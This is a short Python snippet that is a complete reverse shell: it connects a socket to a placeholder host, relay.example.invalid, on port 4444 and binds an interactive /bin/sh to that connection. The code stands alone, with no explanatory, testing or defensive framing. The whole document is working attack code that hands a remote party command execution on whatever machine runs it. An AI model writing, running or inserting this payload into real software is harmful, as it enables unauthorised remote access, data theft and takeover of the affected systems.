import socket, subprocess

s = socket.socket(); s.connect(('relay.example.invalid', 4444))
subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
